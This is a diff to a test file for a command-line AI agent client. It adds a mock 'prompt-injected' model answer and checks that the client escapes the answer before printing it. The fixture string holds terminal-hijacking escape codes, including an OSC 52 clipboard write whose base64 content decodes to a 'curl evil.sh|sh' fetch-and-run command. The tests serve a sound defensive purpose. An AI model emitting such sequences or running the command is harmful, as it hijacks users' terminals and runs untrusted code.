@@ -22,6 +22,7 @@ os.chmod(state, 0o700)
 SECRET = "sk-test-0123456789abcdef-never-printed"
 SEEN = {}  # scenario -> [(headers, body)]
 RUN_IDS = []  # audit ids of every run the transcripts list
+SPOOF = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\u009b31mAll good.\rOK\x1b[0m"
 
 
 def tool_call(code, lang="python", cid="call_1"):
@@ -80,6 +81,10 @@ def scenario(name, n, body, headers=None):
                 {"language": "python", "code": "print('small')", "limits": {"memory_mb": 64}})
             return 200, r, 0
         return 200, say("done"), 0
+    if name == "spoof":
+        # a prompt-injected answer: clear the screen, set the clipboard
+        # (OSC 52), a C1 CSI, a carriage return over a line, invalid UTF-8
+        return 200, say(SPOOF), 0
     if name == "echo401":
         return 401, {"error": {"message": "Incorrect API key provided: " + headers.get("Authorization", "")}}, 0
     if name == "many":
@@ -231,6 +236,25 @@ if runs:
 rc, t, out = agent("echo401")
 ok(rc == 9 and "Incorrect API key provided" in out and SECRET not in out and "[key]" in out,
    "an endpoint that echoes the key in its error: the message is shown with the key blanked", out[-300:])
+# --- what reaches a person's terminal -----------------------------------------------------------
+env = {"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": SECRET}
+p = subprocess.run([BIN, "agent", "--base-url", "http://127.0.0.1:%d/spoof/v1" % PORT, "--state", state, "x"],
+                   capture_output=True, timeout=60, env=env)
+ok(p.returncode == 0 and b"\x1b" not in p.stdout and b"\xc2\x9b" not in p.stdout and b"\r" not in p.stdout
+   and p.stdout == b"\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x9b31mAll good.\\x0dOK\\x1b[0m\n",
+   "human mode: the model's answer reaches the terminal with every control escaped (no screen clear, no OSC 52)",
+   p.stdout)
+rc, t, out = agent("spoof")
+ok(rc == 0 and t.get("answer") == SPOOF, "--json: the answer as the model sent it (JSON escapes it)", t.get("answer"))
+# a short key that the operator's base URL holds many times: blanking each
+# copy grows the message ("[key]" is longer), which once ran past its
+# 512-byte buffer on the stack
+short_key = "k3y9"
+p = subprocess.run([BIN, "agent", "--base-url", "http://127.0.0.1:1/" + short_key * 200 + "/v1", "--state", state,
+                    "--retries", "0", "x"], capture_output=True, timeout=60,
+                   env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": short_key})
+ok(p.returncode == 9 and b"[key][key]" in p.stderr and short_key.encode() not in p.stdout + p.stderr,
+   "a base URL holding a 4-character key 200 times: exit 9, every copy blanked, no crash", (p.returncode, p.stderr[-300:]))
 p = subprocess.Popen([BIN, "agent", "--base-url", "http://127.0.0.1:%d/slow/v1" % PORT, "--state", state,
                       "--request-timeout", "60", "x"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                      env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": SECRET})
